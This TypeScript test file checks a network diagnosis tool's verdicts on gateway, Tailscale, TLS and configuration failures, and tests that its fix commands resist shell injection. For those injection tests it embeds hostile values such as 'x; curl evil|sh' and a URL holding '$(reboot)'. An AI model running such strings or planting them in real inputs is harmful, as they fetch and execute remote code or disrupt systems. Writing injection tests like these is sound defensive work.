import assert from 'node:assert/strict';
import {test} from 'node:test';
import {diagnose} from '../../../source/diagnosis/diagnose.js';
import type {Evidence, Observation, TargetEvidence} from '../../../source/diagnosis/evidence.js';
import {answer, evidenceOf, failure, gateway, peer} from '../evidence-of.js';
import {box, client, listener, lookedUp, openclaw, service, sibling, stacks, tailscale, tls, tried, triedThrice} from './surroundings.js';

const lan = {origin: 'http://192.168.1.9:18789', addressClass: 'private'} as const;
const own = {origin: 'http://192.168.1.5:18789', addressClass: 'private'} as const;
const tailnet = {origin: 'http://100.69.69.108:18789', addressClass: 'cgnat'} as const;
const named = {origin: 'https://box.tail1234.ts.net', addressClass: 'tailnet-name'} as const;
const refused = failure('ECONNREFUSED', {}, {address: '127.0.0.1', port: 18_789});
const thrice = (address: string, more = {}) => triedThrice(address, ['ECONNREFUSED', 'ECONNREFUSED', 'ECONNREFUSED'], more);
const silent = tried('100.69.69.108', 'no-answer');
const reset = {http: 'ECONNRESET', undici: 'UND_ERR_SOCKET', fetch: 'UND_ERR_SOCKET'};
const fetchFails = {fetch: 'ECONNREFUSED'};
const stopped = tailscale({state: 'Stopped', onlinePeers: []});
const closed = failure('ECONNRESET', {phase: 'request', layer: 'identity'});
const html = answer(200, {method: 'GET', path: '/healthz', body: 'html', title: 'Welcome'});

function idsOf(evidence: Evidence): {readonly primary: string | undefined; readonly all: readonly string[]} {
	const {primary, alternatives, notes} = diagnose(evidence);
	return {primary: primary?.id, all: [...(primary ? [primary] : []), ...alternatives, ...notes].map(({id}) => id)};
}

/** What it is, the id that it looks like and must not get, and the one it gets. */
const cases: ReadonlyArray<
	readonly [what: string, not: string, id: string | undefined, seen: readonly Observation[], target?: Partial<TargetEvidence>]
> = [
	['a gateway that flaps is no faulty library', 'N24', 'N26', [refused, stacks({}, fetchFails, {raw: 'ECONNREFUSED', ...fetchFails})]],
	[
		'one round proves nothing about a library',
		'N24',
		'N01',
		[refused, stacks({raw: 'ECONNREFUSED', http: 'ECONNREFUSED', undici: 'ECONNREFUSED', ...fetchFails})],
	],
	['one round in which fetch fails proves nothing about it', 'N24', undefined, [gateway, stacks(fetchFails)]],
	['fetch that failed twice and came through once is not at fault', 'N24', 'N26', [gateway, stacks(fetchFails, {}, fetchFails)]],
	[
		'a peer that answers no way of asking is no faulty library',
		'N24',
		'N22',
		[closed, stacks(...[1, 2, 3].map(() => ({http: 'ECONNRESET', undici: 'UND_ERR_SOCKET', fetch: 'UND_ERR_SOCKET'})))],
		lan,
	],
	[
		'a library at fault is no stopped gateway',
		'N01',
		'N24',
		[refused, stacks(...[1, 2, 3].map(() => ({undici: 'ECONNREFUSED', ...fetchFails})))],
	],
	[
		'a peer that closes what it took does not flap, though a bare connection may see the end of it',
		'N26',
		'N22',
		[
			closed,
			...triedThrice('192.168.1.9', ['ECONNRESET', 'connected', 'ECONNRESET']),
			stacks({raw: 'ECONNRESET', ...reset}, reset, {raw: 'ECONNRESET', ...reset}),
		],
		lan,
	],
	[
		'a firewall that answers only so many times a second is no silence',
		'N11',
		'N16',
		triedThrice('192.168.1.9', ['EHOSTUNREACH', 'EHOSTUNREACH', 'no-answer']),
		lan,
	],
	[
		'a program that listens on the very address is not on another one',
		'N03',
		'N26',
		[...thrice('127.0.0.1'), listener(['127.0.0.1'], 'node')],
	],
	[
		'every second connection refused is no faulty library, whichever of them it hits',
		'N24',
		'N26',
		[refused, stacks(...[1, 2, 3].map(() => ({raw: 'ECONNREFUSED', undici: 'ECONNREFUSED'})))],
	],
	['three rounds that agree do not flap', 'N26', 'N01', [refused, ...thrice('127.0.0.1')]],
	[
		'one address of two that refuses does not flap',
		'N26',
		undefined,
		[...thrice('::1'), ...triedThrice('127.0.0.1', ['connected', 'connected', 'connected']), gateway],
	],
	[
		'a service that was restarted once, an age ago, is in no loop',
		'N02',
		'N01',
		[refused, service({restarts: 1, activeState: 'inactive', subState: 'dead'})],
	],
	[
		'flapping without the service’s word is no crash loop',
		'N02',
		'N26',
		triedThrice('127.0.0.1', ['connected', 'ECONNREFUSED', 'connected']),
	],
	[
		'a neighbour that is another server is no gateway elsewhere',
		'N03',
		'N01',
		[refused, sibling('own-address', 'http://100.69.69.10:18789', 'other-server')],
	],
	[
		'a closed default port is no wrong port',
		'N06',
		'N04',
		[...thrice('192.168.1.9'), sibling('default-port', 'http://192.168.1.9:18789', 'refused')],
		lan,
	],
	['an address of 100.64/10 alone does not mean that Tailscale is off', 'N07', 'N11', [silent], tailnet],
	['nor when Tailscale did not answer', 'N07', 'N11', [silent, tailscale({state: 'no-answer', onlinePeers: []})], tailnet],
	['Tailscale that is off is no reason for a silent LAN', 'N07', 'N11', [tried('192.168.1.9', 'no-answer'), stopped], lan],
	['an address on the LAN is not in the tailnet, and need not be', 'N09', 'N11', [tried('192.168.1.9', 'no-answer'), tailscale()], lan],
	['a peer that is online and refuses is no dropped packet', 'N10', 'N04', [...thrice('100.69.69.108'), tailscale({peer: box})], tailnet],
	['an exit node is no reason for a silent peer', 'N12', 'N10', [silent, tailscale({peer: box, exitNodeTakesLan: true})], tailnet],
	[
		'a family that this machine lacks does not hide the one that is silent',
		'N16',
		'N11',
		[failure('', {attempts: [attempt('ENETUNREACH', 'fd00::9'), attempt('ETIMEDOUT', '192.168.1.9')]})],
		lan,
	],
	['TLS on the port is told once', 'N22', 'L01', [closed, tls()], lan],
	['a container is no ssh tunnel', 'N19', 'N20', [closed, listener(['0.0.0.0'], 'docker-proxy')]],
	['Funnel leads to a public address with a right', 'D05', undefined, [lookedUp(['203.0.113.7']), tls({trusted: true}), gateway], named],
	[
		'so it does when the gateway behind it is away',
		'D05',
		'H21',
		[lookedUp(['203.0.113.7']), tls({trusted: true}), answer(502, {method: 'GET', path: '/healthz', body: 'text'}), peer('unknown')],
		named,
	],
	[
		'a name of the tailnet with its own address is not hijacked',
		'D05',
		'N08',
		[lookedUp(['100.69.69.108']), silent, tailscale({peer: {...box, online: false}})],
		named,
	],
	['Tailscale that runs and does not know the name is not off', 'D03', 'D01', [lookedUp([], {code: 'ENOTFOUND'}), tailscale()], named],
	[
		'a gateway here that is stopped is no address of the wrong machine',
		'C21',
		'N01',
		[...thrice('192.168.1.5', {own: true}), listener([]), openclaw()],
		own,
	],
	['an address of another machine is not our own', 'C21', 'N04', [...thrice('192.168.1.9'), tailscale()], lan],
	[
		'openclaw.json of this machine says nothing about another',
		'O07',
		'N04',
		[...thrice('192.168.1.9'), openclaw({bind: 'lan', authMode: 'none'})],
		lan,
	],
	['nor about another port', 'O08', 'N06', [refused, openclaw({mode: 'local', port: 19_001})]],
	['a gateway that runs has started, whatever its configuration says', 'O08', undefined, [gateway, openclaw({mode: 'remote'})]],
	[
		'the near end of a tunnel is not the gateway of this machine',
		'O01',
		'N19',
		[closed, listener(['127.0.0.1'], 'ssh'), openclaw({pluginProxyPort: 18_789})],
	],
	[
		'nginx that says 502 leads somewhere',
		'O04',
		'H22',
		[answer(502, {method: 'GET', path: '/healthz', headers: {server: 'nginx'}}), peer('unknown'), listener(['0.0.0.0'], 'nginx')],
	],
	[
		'a gateway under the name of its runtime is no other program',
		'O04',
		'H02',
		[html, peer('other-web-server'), listener(['127.0.0.1'], 'MainThread')],
	],
	[
		'bound to the tailnet, it may listen on loopback alone',
		'O05',
		'N01',
		[...thrice('192.168.1.5', {own: true}), listener(['127.0.0.1'], 'node'), openclaw({bind: 'tailnet'})],
		own,
	],
	['a long-term Node is not remarked on', 'N27', 'N01', [client(), refused]],
	[
		'an odd Node is not remarked on while all is well',
		'N27',
		undefined,
		[client({node: '25.2.1'}), tried('127.0.0.1', 'connected'), gateway],
	],
];

function attempt(code: string, address: string) {
	return {code, address, port: 18_789, message: code};
}

for (const [what, not, id, seen, target] of cases) {
	test(what, () => {
		const {primary, all} = idsOf(evidenceOf(seen, target));
		assert.equal(primary, id);
		assert.ok(!all.includes(not), all.join(' '));
	});
}

test('on a machine without Tailscale, 100.64/10 may be the network of a carrier', () => {
	const {primary} = diagnose(evidenceOf([silent, tailscale({state: 'not-installed', onlinePeers: []})], tailnet));
	assert.deepEqual([primary?.id, primary?.confidence], ['N07', 'likely']);
	assert.match(primary?.explanation ?? '', /not certain: carriers/);
});

test('what a later layer proved wrong is a note, and nothing is red', () => {
	for (const seen of [
		[refused, gateway],
		[refused, answer(200, {method: 'GET', path: '/healthz', layer: 'identity'}), gateway],
		[gateway, ...thrice('::1')],
	]) {
		const {primary, notes} = diagnose(evidenceOf(seen));
		assert.equal(primary, undefined);
		assert.deepEqual(
			notes.map(({id, severity, exitCode}) => [id, severity, exitCode]),
			[['N01', 'note', 0]],
		);
	}
});

test('what fails after a success stands', () => {
	assert.equal(idsOf(evidenceOf([gateway, answer(200), refused])).primary, 'N01');
});

test('a failure that nobody knows, and a success after it, is no failure', () => {
	assert.equal(idsOf(evidenceOf([failure('EWEIRD'), gateway])).primary, undefined);
});

test('a gateway that flaps is told although it answered in the end', () => {
	const {primary} = diagnose(evidenceOf([...triedThrice('127.0.0.1', ['ECONNREFUSED', 'connected', 'ECONNREFUSED']), gateway]));
	assert.deepEqual([primary?.id, primary?.exitCode, primary?.transient], ['N26', 75, true]);
});

test('a warning about the configuration hides no error of it, and is no failure of an unknown kind', () => {
	const problem = (row: string): Observation => ({
		kind: 'configuration-problem',
		layer: 'config',
		atMs: 0,
		row,
		setting: 'config.json',
		message: 'is so.',
	});
	assert.deepEqual(idsOf(evidenceOf([problem('C10'), problem('C03')])), {primary: 'C10', all: ['C10', 'C03']});
	assert.equal(idsOf(evidenceOf([problem('C03'), gateway])).primary, undefined);
});

test('values of the network that a shell could take amiss stay out of commands', () => {
	const evil = 'x; curl evil|sh';
	const seen = [
		evidenceOf([...thrice('127.0.0.1'), sibling('own-address', 'http://a$(reboot).example:18789')]),
		evidenceOf([silent, tailscale({onlinePeers: [evil]})], tailnet),
		evidenceOf([silent, tailscale({peer: {...box, name: evil, online: false}})], tailnet),
		evidenceOf([silent, tailscale({renumbered: {...box, name: evil}})], tailnet),
		evidenceOf([...thrice('192.168.1.9')], {...lan, source: `profile ${evil}`}),
		evidenceOf([gateway, {kind: 'value-conflict', layer: 'config', atMs: 0, setting: 'gatewayUrl', used: evil, ignored: evil}]),
		evidenceOf([html, peer('other-web-server'), listener(['0.0.0.0'], evil)]),
		evidenceOf([refused, openclaw({bind: evil})]),
		evidenceOf([refused, openclaw({bind: evil, authMode: 'none', tailscaleMode: 'serve'})]),
	];
	for (const evidence of seen) {
		const {primary, notes} = diagnose(evidence);
		const found = [...(primary ? [primary] : []), ...notes];
		assert.ok(found.length > 0);
		for (const {fixes, verify} of found)
			for (const command of [verify, ...fixes.map(fix => fix.command)]) assert.doesNotMatch(command ?? '', /evil|\$\(|;/, command);
	}
});

test('what is not safe in a command is shown beside it', () => {
	const {primary} = diagnose(evidenceOf([...thrice('127.0.0.1'), sibling('own-address', 'http://a$(reboot).example:18789')]));
	assert.deepEqual(
		[primary?.fixes[0]?.command, primary?.fixes[0]?.shownApart],
		['clawtalk config set gatewayUrl URL', 'http://a$(reboot).example:18789'],
	);
});
